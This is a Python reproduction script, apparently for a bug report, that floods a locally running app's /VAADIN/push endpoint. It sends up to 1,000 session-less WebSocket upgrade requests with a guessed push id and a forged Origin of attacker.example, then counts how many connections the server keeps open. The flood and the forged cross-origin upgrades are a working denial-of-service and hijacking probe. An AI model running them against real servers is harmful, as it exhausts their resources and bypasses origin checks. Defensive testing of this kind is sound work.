#!/usr/bin/env python3
"""WebSocket upgrades to the push endpoint without a session (issue #22), against an app already
running on loopback: opens N connections one after another (default 1,000), each asking to upgrade
/VAADIN/push with a guessed push id and another site's Origin, keeps them all, and after 5 s counts
how many the server still holds open. Prints one line: the status lines received and that count.
Usage: scripts/push-upgrades-without-session.py PORT [N]   (raise `ulimit -n` above N first)"""
import collections
import socket
import sys
import time

port = int(sys.argv[1])
count = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
request = ("GET /VAADIN/push?v-r=push&v-uiId=0&v-pushId=guessed&X-Atmosphere-Transport=websocket&X-atmo-protocol=true"
           "&X-Atmosphere-Framework=3.1.5-javascript&X-Atmosphere-tracking-id=0 HTTP/1.1\r\nHost: 127.0.0.1\r\n"
           "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: https://attacker.example\r\n\r\n").encode()
sockets, statuses = [], collections.Counter()
start = time.time()
for _ in range(count):
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.sendall(request)
    statuses[connection.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace").strip()] += 1
    sockets.append(connection)
took = time.time() - start
time.sleep(5)
still_open = 0
for connection in sockets:
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
    except BlockingIOError:
        still_open += 1
    except OSError:
        pass
    connection.close()
print(f"{count} upgrades without a session in {took:.1f} s: {dict(statuses)}; held open 5 s after the last: {still_open}")
